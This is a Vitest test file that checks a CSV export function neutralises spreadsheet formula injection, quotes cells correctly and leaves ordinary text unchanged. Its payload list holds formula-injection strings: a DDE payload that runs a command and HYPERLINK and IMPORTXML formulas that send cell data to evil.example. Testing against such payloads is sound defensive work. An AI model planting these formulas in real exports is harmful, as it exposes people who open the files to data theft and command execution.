import { describe, expect, it } from 'vitest';
import { csv } from './csv.js';

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|', '%'];
const AROUND = ['', ' ', '  ', '"', "'", '"\t', '\u00a0', '\ufeff', '\u200b', ' " '];
const PAYLOADS = [
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  'DDE("cmd";"/c calc";"x")',
  '1+1',
];

describe('A75: a cell of an export', () => {
  it.each(BEGINNINGS.flatMap((begin) => AROUND.map((around) => ({ begin, around }))))(
    'that begins with $begin behind “$around” is text to every spreadsheet',
    ({ begin, around }) => {
      for (const payload of PAYLOADS) {
        const line = csv([[`${around}${begin}${payload}`]]);
        expect(line.startsWith(`"'`), JSON.stringify(line)).toBe(true);
        expect(line.endsWith('"\r\n')).toBe(true);
      }
    },
  );

  it('begins no line of its own, and quotes are doubled', () => {
    expect(csv([['Ada\n=1+1', 'say "hi"', null, 3]])).toBe('"Ada =1+1","say ""hi""","","3"\r\n');
    expect(csv([['a\u2028=b\0c']])).toBe('"a =bc"\r\n');
  });

  it('leaves ordinary words alone', () => {
    expect(csv([['Müller & Söhne', 'نورا', '2026-11-20', 'a@b.example']])).toBe(
      '"Müller & Söhne","نورا","2026-11-20","a@b.example"\r\n',
    );
  });
});
